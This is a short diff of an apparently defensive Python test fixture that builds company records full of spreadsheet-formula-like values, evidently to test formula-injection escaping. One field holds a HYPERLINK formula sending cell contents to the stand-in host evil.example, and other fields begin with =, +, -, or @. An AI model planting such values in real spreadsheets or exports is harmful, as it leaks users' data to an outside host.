@@ -39,8 +39,6 @@ def formula_like_company(business_id: str = "0112038-9", **changes) -> dict:
     looks_like_formulas = {
         "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "description": {"fi": "-20 % alennus", "sv": "+SUM(1;2)", "en": "@SUM(A1:A9)"},
-        "street_address": "\tKeskustie 1",
-        "post_office": "\rKARSTULA",
         "phone": "+358 40 123 4567",
         "tags": ["-alennus", "@koti"],
     }
